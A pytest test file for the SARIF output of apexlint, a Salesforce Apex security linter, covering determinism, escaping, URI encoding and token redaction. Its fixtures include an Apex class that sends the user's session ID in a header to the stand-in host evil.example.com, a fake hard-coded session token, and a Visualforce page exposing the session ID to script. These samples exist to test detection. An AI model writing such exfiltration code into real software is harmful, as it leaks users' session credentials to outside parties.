"""SARIF reporter: the log passes the strict checker against real files, and is deterministic."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from apexlint.catalogue import RuleMeta
from apexlint.findings import (
    Finding,
    Fix,
    FlowStep,
    Level,
    Location,
    PackageInfo,
    Replacement,
    ScanResult,
    SuppressionInfo,
)
from apexlint.ir import NoticeLevel, Notification, Span
from apexlint.report import REPORTERS, ReportOptions
from apexlint.report.sarif import artifact_uri, message_text, portable_command_line

REPO_ROOT = Path(__file__).resolve().parents[1]
TOKEN = "00D5g000004ABCDEFG!AQ4AQKq8dEXAMPLEexampleEXAMPLE123"

CAFE = (
    "public class Café {\n"
    "    public static String sid() {\n"
    "        String s = UserInfo.getSessionId();\n"
    "        return s;\n"
    "    }\n"
    "}\n"
)
EXPORTER = (
    "public class Exporter {\n"
    "    public void send() {\n"
    "        String sid = Café.sid(); String smile = '😀'; req.setHeader('X-Sid', sid);\n"
    "        req.setEndpoint('https://evil.example.com/collect');\n"
    f"        String t = '{TOKEN}';\n"
    "    }\n"
    "}\n"
)
PAGE = "<apex:page>\n    <script>var s = '{!$Api.Session_ID}';</script>\n</apex:page>\n"


def checker_path() -> Path | None:
    """The shared strict checker: $APEXLINT_SARIF_CHECK, else ../shared/tools beside the repo."""
    env = os.environ.get("APEXLINT_SARIF_CHECK")
    path = Path(env) if env else REPO_ROOT.parent / "shared" / "tools" / "sarif_check.py"
    return path if path.is_file() else None


def rule(rule_id: str, name: str, level: str, severity: str = "8.1") -> RuleMeta:
    return RuleMeta(
        id=rule_id, name=name, level=level, security_severity=severity, precision="high",
        tags=("security", "external/cwe/cwe-200"), cwe=("CWE-200",),
        short_description=f"{name} short", full_description=f"{name}: the full description.",
        help_markdown=f"## What it does\n\n{name}\n\n## Use instead\n\nA Named Credential.",
        help_text=f"What it does: {name}. Use instead: a Named Credential.",
        help_uri=f"https://github.com/apexlint/apexlint/blob/main/rules/{rule_id}.md",
    )


RULES = {r.id: r for r in (
    rule("SID010", "session-id-supported-use", "note", "2.0"),
    rule("SID002", "session-id-exported", "error", "9.1"),
    rule("SID009", "hardcoded-session-token", "error", "9.8"),
    rule("SID011", "session-id-unresolved-use", "warning", "5.0"),
)}


def loc(path: str, line: int, text: str, needle: str, label: str = "", show: bool = True) -> Location:
    """A one-line Location whose span covers `needle` on `line` of `text` (UTF-16 columns)."""
    src_line = text.split("\n")[line - 1]
    start = src_line.index(needle)
    col = len(src_line[:start].encode("utf-16-le")) // 2 + 1
    end = col + len(needle.encode("utf-16-le")) // 2
    return Location(path, Span(line, col, line, end), needle if show else None, label)


def sample_result() -> ScanResult:
    source = loc("classes/Café.cls", 3, CAFE, "UserInfo.getSessionId()", "session ID read here")
    sink = loc("classes/Exporter.cls", 3, EXPORTER, "req.setHeader('X-Sid', sid)", "sent to evil.example.com")
    flow = (
        FlowStep(source, "session ID read"),
        FlowStep(loc("classes/Café.cls", 4, CAFE, "return s;"), "returned from Café.sid()"),
        FlowStep(sink, "sent in header X-Sid \x1b[31m"),
    )
    token = loc("classes/Exporter.cls", 5, EXPORTER, TOKEN, show=True)
    page_loc = loc("pages/P.page", 2, PAGE, "{!$Api.Session_ID}")
    fix = Fix("Remove the session header", "classes/Exporter.cls",
              (Replacement(sink.span, "/* use a Named Credential */"),))
    findings = (
        Finding("SID009", Level.ERROR, f"Hard-coded session token {TOKEN} in a literal.", token,
                fingerprint="fp-token"),
        Finding("SID002", Level.ERROR, "Session ID from UserInfo.getSessionId() is sent to "
                "https://evil.example.com </script> \x1b[2J [x](2) list[0]", sink, source=source,
                flow=flow, fingerprint="fp-export", properties=(("endpoint", "https://evil.example.com"),
                                                                ("confidence", "high")), fix=fix),
        Finding("SID010", Level.NOTE, "Session ID used by the page's own UI requests.", page_loc,
                source=page_loc, fingerprint="fp-page",
                suppression=SuppressionInfo("documented for the security review")),
        Finding("SID011", Level.WARNING, "Session ID passed to code outside the package.", source,
                source=source, fingerprint="fp-unresolved", baseline_state="unchanged"),
    )
    notifications = (
        Notification("parse-error", "Could not parse part of the page", NoticeLevel.WARNING, "pages/P.page",
                     Span(2, 5, 2, 13)),
        Notification("file-too-large", "Skipped a large static resource", NoticeLevel.NOTE,
                     "staticresources/big.js"),
        Notification("config", "No sfdx-project.json: scanning as loose files", NoticeLevel.NOTE),
    )
    return ScanResult(PackageInfo("demo", "demo_ns", "sfdx"), findings, notifications,
                      files_scanned=3, lines_scanned=16, rules_run=tuple(sorted(RULES)))


def write_sources(root: Path) -> None:
    for rel, text in (("classes/Café.cls", CAFE), ("classes/Exporter.cls", EXPORTER), ("pages/P.page", PAGE),
                      ("staticresources/big.js", "x\n")):
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text.encode("utf-8"))


def render(result: ScanResult, options: ReportOptions | None = None) -> str:
    buf = io.StringIO()
    REPORTERS["sarif"].render(result, RULES, buf, options or ReportOptions(color=False, tool_version="0.1.0"))
    return buf.getvalue()


def run_checker(sarif_text: str, root: Path) -> str:
    checker = checker_path()
    if checker is None:
        pytest.skip("sarif_check.py not found: set APEXLINT_SARIF_CHECK or keep ../shared/tools "
                    "beside the repository")
    out = root.parent / f"{root.name}.sarif"
    out.write_bytes(sarif_text.encode("utf-8"))
    proc = subprocess.run([sys.executable, str(checker), str(out), "--src", str(root)],
                          capture_output=True, text=True, check=False)
    return proc.stdout + proc.stderr


def the_run(text: str) -> dict[str, Any]:
    run: dict[str, Any] = json.loads(text)["runs"][0]
    return run


def primary(result: dict[str, Any]) -> dict[str, Any]:
    """The result's primary physicalLocation."""
    phys: dict[str, Any] = result["locations"][0]["physicalLocation"]
    return phys


def test_log_passes_the_strict_checker_against_the_real_files(tmp_path: Path) -> None:
    root = tmp_path / "pkg"
    write_sources(root)
    report = run_checker(render(sample_result()), root)
    assert report.strip().endswith("0 problems"), report


def test_empty_scan_still_writes_results_and_passes(tmp_path: Path) -> None:
    root = tmp_path / "empty"
    root.mkdir()
    text = render(ScanResult(PackageInfo("demo", "", "files"), (), ()))
    assert the_run(text)["results"] == []
    report = run_checker(text, root)
    assert report.strip().endswith("0 problems"), report


def test_rendering_twice_gives_identical_bytes() -> None:
    assert render(sample_result()) == render(sample_result())


def test_results_follow_the_checker_order_whatever_the_input_order() -> None:
    result = sample_result()
    shuffled = ScanResult(result.package, tuple(reversed(result.findings)),
                          tuple(reversed(result.notifications)))
    assert render(result) == render(shuffled)
    results = the_run(render(result))["results"]
    uris = [primary(r)["artifactLocation"]["uri"] for r in results]
    assert uris == sorted(uris)


def test_log_header_and_run_shape() -> None:
    log = json.loads(render(sample_result(), ReportOptions(color=False, tool_version="0.1.0", category="pr")))
    assert list(log)[:3] == ["$schema", "version", "runs"]
    assert log["$schema"] == "https://json.schemastore.org/sarif-2.1.0.json"
    run = log["runs"][0]
    driver = run["tool"]["driver"]
    assert (driver["name"], driver["version"], driver["semanticVersion"]) == ("apexlint", "0.1.0", "0.1.0")
    assert [r["id"] for r in driver["rules"]] == sorted(RULES)
    assert run["columnKind"] == "utf16CodeUnits"
    assert run["automationDetails"] == {"id": "pr/"}
    assert "uri" not in run["originalUriBaseIds"]["%SRCROOT%"]
    assert run["invocations"][0]["executionSuccessful"] is True


def test_rule_carries_help_and_github_properties() -> None:
    rules = {r["id"]: r for r in the_run(render(sample_result()))["tool"]["driver"]["rules"]}
    note = rules["SID010"]
    assert note["defaultConfiguration"] == {"level": "note"}
    assert note["properties"]["problem.severity"] == "recommendation"
    assert note["properties"]["security-severity"] == "2.0"
    assert note["fullDescription"]["markdown"].startswith("## What it does")
    assert note["help"]["text"] and note["help"]["markdown"] and note["helpUri"].startswith("https://")


def test_result_links_the_source_flow_fix_and_fingerprint() -> None:
    results = {r["ruleId"]: r for r in the_run(render(sample_result()))["results"]}
    export = results["SID002"]
    assert export["message"]["text"].endswith("See [source](1).")
    assert "\\[x\\](2)" in export["message"]["text"]  # a literal link-lookalike is escaped
    assert export["relatedLocations"][0]["id"] == 1
    assert export["relatedLocations"][0]["physicalLocation"]["artifactLocation"]["uri"] == (
        "classes/Caf%C3%A9.cls")
    steps = export["codeFlows"][0]["threadFlows"][0]["locations"]
    assert [s["location"]["message"]["text"] for s in steps] == [
        "session ID read", "returned from Café.sid()", "sent in header X-Sid <U+001B>[31m"]
    assert export["partialFingerprints"] == {"apexlint/v1": "fp-export"}
    assert list(export["properties"]) == ["confidence", "endpoint"]
    change = export["fixes"][0]["artifactChanges"][0]
    assert change["replacements"][0]["insertedContent"]["text"] == "/* use a Named Credential */"
    assert primary(export)["region"]["snippet"]["text"] == "req.setHeader('X-Sid', sid)"
    assert "</script> <U+001B>\\[2J" in export["message"]["text"]


def test_source_at_the_sink_itself_is_not_a_related_location() -> None:
    results = {r["ruleId"]: r for r in the_run(render(sample_result()))["results"]}
    assert "relatedLocations" not in results["SID011"]
    assert "[source]" not in results["SID011"]["message"]["text"]
    assert results["SID011"]["baselineState"] == "unchanged"


def test_suppressed_finding_keeps_its_justification_or_is_left_out() -> None:
    results = {r["ruleId"]: r for r in the_run(render(sample_result()))["results"]}
    assert results["SID010"]["suppressions"] == [
        {"kind": "inSource", "justification": "documented for the security review"}]
    options = ReportOptions(color=False, tool_version="0.1.0", include_suppressed=False)
    hidden = render(sample_result(), options)
    assert "SID010" not in {r["ruleId"] for r in the_run(hidden)["results"]}


def test_token_is_redacted_and_its_snippet_dropped() -> None:
    text = render(sample_result())
    assert TOKEN not in text
    token_result = next(r for r in the_run(text)["results"] if r["ruleId"] == "SID009")
    assert "snippet" not in primary(token_result)["region"]


def test_notifications_become_tool_execution_notifications() -> None:
    notes = the_run(render(sample_result()))["invocations"][0]["toolExecutionNotifications"]
    assert [n["descriptor"]["id"] for n in notes] == ["config", "parse-error", "file-too-large"]
    assert "locations" not in notes[0]
    assert notes[1]["locations"][0]["physicalLocation"]["region"]["startLine"] == 2
    assert "region" not in notes[2]["locations"][0]["physicalLocation"]


def test_unknown_rule_is_an_error_not_a_broken_log() -> None:
    bad = Finding("SID999", Level.ERROR, "m", Location("a.cls", Span(1, 1, 1, 2)), fingerprint="x")
    with pytest.raises(ValueError, match="SID999"):
        render(ScanResult(PackageInfo("demo", "", "files"), (bad,), ()))


def test_uri_is_percent_encoded_relative_reference() -> None:
    assert artifact_uri("classes/Café.cls") == "classes/Caf%C3%A9.cls"
    assert artifact_uri("a b/c:d#e%.cls") == "a%20b/c%3Ad%23e%25.cls"


def test_message_escaping_only_where_links_matter() -> None:
    assert message_text("plain list[0]") == "plain list[0]"
    assert message_text("a [b](3)") == "a \\[b\\](3)"
    assert message_text("sent", link_to_source=True) == "sent. See [source](1)."


def test_command_line_with_an_absolute_path_is_dropped() -> None:
    portable = "apexlint scan force-app --format sarif"
    assert portable_command_line(portable) == portable
    assert portable_command_line("apexlint scan /home/me/pkg") is None
    assert portable_command_line("apexlint scan --output=C:\\out.sarif .") is None


def test_real_catalogue_renders_a_log_the_checker_accepts(tmp_path: Path) -> None:
    from apexlint import catalogue

    load = getattr(catalogue, "load_catalogue", None)
    if load is None:
        pytest.skip("the catalogue loader is not there yet")
    root = tmp_path / "pkg"
    write_sources(root)
    buf = io.StringIO()
    REPORTERS["sarif"].render(sample_result(), load(), buf, ReportOptions(color=False, tool_version="0.1.0"))
    report = run_checker(buf.getvalue(), root)
    assert report.strip().endswith("0 problems"), report


def test_a_scan_of_every_fixture_package_passes_the_strict_checker(tmp_path: Path) -> None:
    """What the README's first command writes, checked against the files it points into: lone-CR
    line ends (read as line breaks, so `newlineSequences` says so), zips, pages, metadata."""
    from apexlint.catalogue import load_catalogue
    from apexlint.engine import ScanOptions, scan

    fixtures = REPO_ROOT / "fixtures"
    result = scan(ScanOptions(paths=(fixtures,), root=REPO_ROOT, jobs=1))
    out = tmp_path / "fixtures.sarif"
    with out.open("w", encoding="utf-8") as f:
        REPORTERS["sarif"].render(result, load_catalogue(), f, ReportOptions(color=False, tool_version="0.1.0"))
    checker = checker_path()
    if checker is None:
        pytest.skip("sarif_check.py not found: set APEXLINT_SARIF_CHECK or keep ../shared/tools "
                    "beside the repository")
    proc = subprocess.run([sys.executable, str(checker), str(out), "--src", str(REPO_ROOT)],
                          capture_output=True, text=True, check=False)
    assert (proc.stdout + proc.stderr).strip().endswith("0 problems"), proc.stdout[-3000:]
    assert the_run(out.read_text(encoding="utf-8"))["newlineSequences"] == ["\r\n", "\n", "\r"]
